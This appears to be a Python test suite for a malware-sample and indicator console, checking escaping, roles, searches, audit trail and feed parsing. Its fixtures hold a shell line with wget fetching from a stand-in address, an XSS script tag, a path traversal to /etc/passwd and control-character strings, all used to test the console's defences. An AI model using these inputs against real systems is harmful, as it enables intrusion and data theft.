"""Samples, indicators and publications in the console: what is handed in is seen, what analysts change counts, what is wrong is
told, and what strangers wrote is text."""

import hashlib
import json
import pathlib
import re
import tempfile
import urllib.parse

from harness import check, equal, run, wait_until
from visitors import Console, says

# Harmless: a file for these checks.
SCRIPT = b"#!/bin/sh\n# Harmless. <script>alert(1)</script>\nwget http://203.0.113.9/next\necho checked\n"
SHA256, SHA1, MD5 = (hashlib.new(name, SCRIPT).hexdigest() for name in ("sha256", "sha1", "md5"))
HOSTILE = "<b>\u202e'\"&\x1b[2J"
VALUE = "203.0.113.66:23/tcp"
PAGES = ("/samples", "/families", "/indicators", "/indicators/refused", "/malware", "/publications", "/trends", "/")
PAGE_BYTES_MAX = 150_000

FILES = pathlib.Path(tempfile.mkdtemp(prefix="komainu-publications-"))
KEV, NOTES = FILES / "kev.json", FILES / "notes.csv"
KEV.write_text(json.dumps({"vulnerabilities": [
    {"cveID": "CVE-2026-1001", "dateAdded": "2026-11-20", "vulnerabilityName": "Camera login <b>bypass</b>",
     "vendorProject": "Example", "product": "Camera"},
    {"cveID": "not a number", "dateAdded": "2026-11-21"},
]}))
NOTES.write_text("date,title,cve,protocol,appliance,model,url\n2026-11-19,Talk about telnet,,telnet,,,\nyesterday,Wrong,,,,,\n")


@check
def empty_pages_say_what_to_run(console):
    browser = console.browser("vera", "viewer")
    says(browser.get("/samples"), "komainu samples submit FILE", 200)
    says(browser.get("/indicators"), "komainu indicators add", 200)
    for page in PAGES:
        says(browser.get(page), "Komainu", 200)


@check
def a_sample_that_is_handed_in_is_seen(console):
    path = console.folder / "checked.sh"
    path.write_bytes(SCRIPT)
    console.command("samples", "submit", path, "--name", "<b>checked</b>.sh")
    browser = console.browser("vera", "viewer")
    says(browser.get("/samples"), SHA256[:12], 200)

    def done():
        page = browser.get(f"/samples/{SHA256}")
        return page if "/report.json" in page.text else None

    page = wait_until("the report", done, limit_s=60)
    for text in (SHA1, MD5, "hxxp://203[.]0[.]113[.]9/next", "<b>checked</b>.sh", "not run"):
        says(page, text, 200)
    equal("<b>checked" in page.text, False, "markup in a name")
    equal("<script>alert" in page.text, False, "markup in a file")
    equal("/again" in page.text, False, "a viewer has a button")
    report = browser.get(f"/samples/{SHA256}/report.json")
    equal((report.status_code, report.json()["sample"]["sha256"]), (200, SHA256))
    equal("attachment" in report.headers["Content-Disposition"], True)
    equal(browser.get(f"/samples/{SHA256}/stix.json").json()["type"], "bundle")
    equal(browser.get(f"/samples/{SHA256}/triage.json").json()["version"], 1)
    # Its bytes are handed out nowhere.
    for name in ("contents", "download", "sample", SHA256):
        equal(browser.get(f"/samples/{SHA256}/{name}").status_code, 404)
    for digest in (SHA256, SHA1, MD5, SHA256.upper()):
        says(browser.get(f"/search?q={digest}"), f'href="/samples/{SHA256}"', 200)
    says(browser.get("/samples?state=done"), SHA256[:12], 200)
    says(browser.get("/samples?state=failed"), "No sample fits", 200)
    says(browser.get("/malware"), "1", 200)


@check
def analysts_have_a_sample_examined_again(console):
    path = f"/samples/{SHA256}"
    viewer, analyst = console.browser("vera", "viewer"), console.browser("ana", "analyst")
    equal(viewer.post(f"{path}/again", {}, page=path).status_code, 403)
    says(analyst.post(f"{path}/again", {}, page=path), "waits for the laboratory once more", 200)
    equal(analyst.post("/samples/" + "0" * 64 + "/again", {}, page="/account").status_code, 404)


@check
def an_indicator_is_added_and_taken_back(console):
    viewer, analyst, admin = console.browser("vera", "viewer"), console.browser("ana", "analyst"), console.browser("root2", "admin")
    equal("name=\"value\"" in viewer.get("/indicators").text, False, "a viewer has a form")
    form = {"value": "203[.]0.113.66:23/tcp", "threat": "command-and-control", "note": HOSTILE, "days": "30"}
    equal(viewer.post("/indicators", form).status_code, 403)
    for wrong, told in (({"value": "http://x/"}, "No network and no URL"), ({"days": "0"}, "from 1 to"), ({"note": ""}, "Say why"),
                        ({"value": "10.0.0.1"}, "does not become an indicator")):
        says(analyst.post("/indicators", form | wrong), told, 422)
    page = says(analyst.post("/indicators", form), "Added.", 200)
    identity = re.search(r"/indicators/([0-9a-f-]{36})", page.url)[1]
    says(page, "203[.]0[.]113[.]66:23/tcp")
    says(page, "<b>\\u{202e}'\"&\\x1b[2J")
    equal("<b>" in page.text, False, "markup in a note")
    # On the command line as well.
    shown = console.command("indicators", "show", VALUE)
    equal((identity in shown, "active" in shown), (True, True), shown)
    for wanted in (VALUE, "203[.]0[.]113[.]66:23/tcp"):
        says(viewer.get(f"/search?q={urllib.parse.quote(wanted)}"), identity, 200)
    says(viewer.get("/indicators?by=operator&type=address&q=113.66"), identity, 200)
    says(viewer.get("/indicators?by=feed"), "No indicator fits", 200)
    says(viewer.get("/indicators/refused"), "10[.]0[.]0[.]1", 200)
    path = f"/indicators/{identity}"
    equal("/revoke" in viewer.get(path).text, False, "a viewer has a button")
    equal(viewer.post(f"{path}/revoke", {"reason": "x"}, page=path).status_code, 403)
    says(analyst.post(f"{path}/revoke", {"reason": ""}, page=path), "Say why", 422)
    says(analyst.post(f"{path}/revoke", {"reason": "ours, <i>after all"}, page=path), "Taken back.", 200)
    says(viewer.get(path), "ours, <i>after all", 200)
    equal("revoked" in console.command("indicators", "show", VALUE), True)
    trail = says(admin.get("/admin/audit"), "indicator taken back", 200)
    says(trail, "indicator added")
    says(trail, "sample looked at once more")


@check
def what_is_no_page_is_none(console):
    browser = console.browser("vera", "viewer")
    for path in ("/samples/xyz", "/samples/" + "0" * 64, "/indicators/xyz", "/families/none", "/families/%3Cscript%3E",
                 "/indicators/00000000-0000-0000-0000-000000000000", "/indicators?after=nonsense", "/indicators/refused?after=x",
                 "/samples/" + SHA256 + "/..%2f..%2fetc%2fpasswd"):
        equal(browser.get(path).status_code, 404, path)
    hostile = urllib.parse.quote(HOSTILE + "\x00" * 9 + "a" * 1_000)
    for path in ("/samples?family=", "/samples?before=", "/indicators?q=", "/publications?q=", "/malware?from=", "/search?q="):
        page = browser.get(path + hostile)
        equal((page.status_code, "<b>" in page.text, "\u202e" in re.sub(r'value="[^"]*"', "", page.text)), (200, False, False), path)
        equal(len(page.content) < PAGE_BYTES_MAX, True, path)


@check
def publications_are_read_and_mistakes_told(console):
    log = console.log.read_text()
    for told in ("kev.json: entry 2: ", "notes.csv: line 3: "):
        equal(told in log, True, f"the start does not say {told}: {log[-3000:]}")
    browser = console.browser("vera", "viewer")
    page = browser.get("/publications")
    for text in ("Camera login <b>bypass</b>", "Talk about telnet", "entry 2: ", "line 3: "):
        says(page, text, 200)
    equal("<b>bypass" in page.text, False, "markup in a title")
    says(browser.get("/search?q=cve-2026-1001"), "/publications?q=CVE-2026-1001", 200)
    NOTES.write_text("date,title,cve,protocol,appliance,model,url\n2026-11-20,Written meanwhile,,,,,\n")
    wait_until("the note", lambda: "Written meanwhile" in browser.get("/publications").text)
    NOTES.write_text("not a table at all\n")
    wait_until("the mistake", lambda: "line 1: " in browser.get("/publications").text)
    NOTES.unlink()
    wait_until("that it is gone", lambda: "cannot be read" in browser.get("/publications").text)
    equal(console.process.poll(), None, "the server ended")


@check
def japanese_and_small(console):
    browser = console.browser("vera", "viewer")
    for page in (*PAGES, f"/samples/{SHA256}"):
        answer = browser.get(page, headers={"Accept-Language": "ja"})
        equal((answer.status_code, 'lang="ja"' in answer.text), (200, True), page)
        equal(len(answer.content) < PAGE_BYTES_MAX, True, (page, len(answer.content)))


# With a laboratory, and without guests.
run(Console, configuration=f"""
[detect]
short_windows = true
[intel]
documentation_addresses = true
[lab]
workers = 1
[sandbox]
kits = "no-such-folder"
[statistics]
kev = "{KEV}"
notes = "{NOTES}"
""")
